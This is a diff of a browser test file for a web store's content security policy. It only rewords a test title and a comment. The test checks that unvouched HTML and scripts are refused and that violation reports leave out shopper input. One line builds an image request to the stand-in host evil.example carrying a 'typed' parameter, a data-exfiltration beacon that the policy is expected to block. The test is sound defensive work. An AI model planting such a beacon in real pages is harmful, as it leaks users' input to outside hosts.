@@ -35,7 +35,7 @@ test("the scripts of home, product and cart and the served HTML of a popup run u
   await expect(popup.locator('[data-part="served-html"] > *').first()).toBeVisible();
 });
 
-test("HTML and scripts that nobody vouches for are refused, and what a browser reports is logged without what was typed", {
+test("HTML and scripts without a nonce or hash are refused, and a browser's report is logged without the shopper's input", {
   tag: ["@ca-desktop", "@one-brand", "@one-width"],
 }, async ({ page, storeUrl, faults }) => {
   faults.allow(/TrustedHTML|TrustedScript|Content Security Policy|evil\.example/);
@@ -66,7 +66,7 @@ test("HTML and scripts that nobody vouches for are refused, and what a browser r
   });
   expect(refused).toEqual([true, true, true, true]);
 
-  // A picture's address may tell what was typed.
+  // A picture's address may contain the shopper's input.
   await page.evaluate(() => Object.assign(new Image(), { src: "https://evil.example/a.png?typed=1" }));
   await expect.poll(readLog).toContain("Content policy: img-src refused https://evil.example on /stores");
   expect(readLog()).toContain("Content policy: require-trusted-types-for refused trusted-types-sink on /stores");
